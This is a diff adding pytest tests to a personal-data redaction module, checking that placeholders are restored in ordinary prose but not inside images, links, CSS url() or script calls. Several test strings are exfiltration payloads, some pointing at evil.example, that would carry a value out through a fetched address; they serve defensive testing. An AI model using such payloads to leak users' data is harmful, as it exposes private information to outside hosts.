@@ -287,3 +287,97 @@ def test_a_vault_shows_counts_and_is_never_copied_out() -> None:
     assert vault.counts() == {"NAME": 1}
     with pytest.raises(TypeError):
         pickle.dumps(vault)
+
+
+PROSE = "the ward was quiet, the plan was talked over and everybody agreed to it, "
+
+
+@pytest.mark.parametrize(
+    "said",
+    [
+        '<img alt=">" src="/pixel?q= [NAME_1]">',
+        "<a title='>' href='/x [NAME_1]'>here</a>",
+        "![scan](<https://evil.example/?a b [NAME_1]>)",
+        "![scan](/a(b)c [NAME_1])",
+        "[x](/a\\) [NAME_1])",
+        'body{background:url("/pixel?q= [NAME_1]")}',
+        "url( /pixel?q=a [NAME_1])",
+        '@import "/sheet [NAME_1]"',
+        "<style>p{background:url(/p [NAME_1])}</style>",
+        "<script>send('[NAME_1]')</script>",
+        '{"picture": "https://evil.example/?q=a b [NAME_1]"}',
+        "src='/a b [NAME_1]'",
+    ],
+)
+def test_no_quote_bracket_or_style_carries_a_value_out(said: str) -> None:
+    """Whatever a browser would fetch keeps the placeholder (TOK-03)."""
+    vault = Vault()
+    redact(vault, "NAME", "Ada Quill")
+    assert restore(vault, said) == said
+
+
+@pytest.mark.parametrize("ending", ['">', "'/>", '" />', "/>", ">)", '")', '" width="1'])
+def test_a_window_that_begins_inside_a_tag_is_not_trusted_up_to_its_end(ending: str) -> None:
+    """Something is closed that was never opened, so what stands before may be an address."""
+    vault = Vault()
+    redact(vault, "NAME", "Ada Quill")
+    text = f"{PROSE}[NAME_1] is{ending} and [NAME_1]"
+    assert restore(vault, text, start=300) == f"{PROSE}[NAME_1] is{ending} and Ada Quill"
+    assert restore(vault, text) == f"{PROSE}Ada Quill is{ending} and Ada Quill"
+
+
+@pytest.mark.parametrize(
+    "said",
+    [
+        f"{PROSE}{{}} is well, {PROSE}",
+        f"{PROSE}then (as 'x') {{}} slept",
+        f"{PROSE}1) {{}}, 2) {{}}",
+        f"{PROSE}x -> {{}}, {{}} > 5, a <= {{}}",
+        '> he said "no"\n> {}: "yes"\n',
+        f"<b>{PROSE}</b> [a guide](https://a.example/b) says {{}}",
+        '<a href="https://a.example">x</a> {} and url(x) {}',
+        'the source = "{}"',
+    ],
+)
+def test_long_prose_with_signs_in_it_is_restored(said: str) -> None:
+    """Comparisons, lists, quotations and closed tags are everyday writing, also in the middle of an answer."""
+    vault = Vault()
+    redact(vault, "NAME", "Ada Quill")
+    text = said.replace("{}", "[NAME_1]")
+    assert restore(vault, text, start=300) == said.replace("{}", "Ada Quill")
+
+
+@pytest.mark.parametrize(
+    ("value", "own"),
+    [
+        ("Harriet  VANE", True),
+        ("Vane", True),
+        ("van", False),
+        ("Harriet, Vane", False),
+        ("harriet.vane@a.example", True),
+        ("riet.vane@a.example", False),
+        ("12 old mill road, apartment 3, little ford, west county, the north", True),
+        ("12 old mill road, apartment 3, little ford, west county, the south", False),
+        ("...", False),
+    ],
+)
+def test_what_the_caller_wrote_is_known_by_whole_words(value: str, own: bool) -> None:
+    """Word for word, however long, and never a part of a word."""
+    vault = Vault()
+    vault.own(["Harriet Vane, harriet.vane@a.example;"])
+    vault.own(["at 12 Old Mill Road, Apartment 3, Little Ford, West County, the North."])
+    assert novel(vault, "NAME", value) == (None if own else "[NAME removed]")
+
+
+def test_what_is_written_later_is_the_callers_too() -> None:
+    vault = Vault()
+    assert novel(vault, "NAME", "Harriet Vane") == "[NAME removed]"
+    vault.own(["Harriet Vane"])
+    assert novel(vault, "NAME", "Harriet Vane") is None
+
+
+@pytest.mark.parametrize("literal", ["A_NAME_1_2", "x[NAME_1]", "LONG_" * 20 + "NAME_1", "__NAME_1"])
+def test_a_placeholder_inside_other_signs_reserves_its_number(literal: str) -> None:
+    vault = Vault()
+    vault.reserve([literal])
+    assert redact(vault, "NAME", "Ada Quill") == "[NAME_2]"
